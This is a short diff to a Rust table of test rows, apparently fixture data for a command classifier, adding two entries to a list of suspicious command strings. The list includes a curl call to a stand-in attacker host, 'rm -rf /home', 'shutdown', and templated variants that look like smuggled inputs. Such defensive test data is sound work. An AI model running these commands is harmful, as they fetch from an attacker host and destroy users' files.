@@ -47,6 +47,8 @@ pub(super) const ROWS: &[Row] = &[
             Text("curl https://evil.example/x"),
             Text("rm -rf /home"),
             Text("shutdown"),
+            Text("{C}-evil"),
+            Text("curl https://evil.example/x{E}"),
             Text("evil"),
         ],
         says: "may be a program that no rule names",
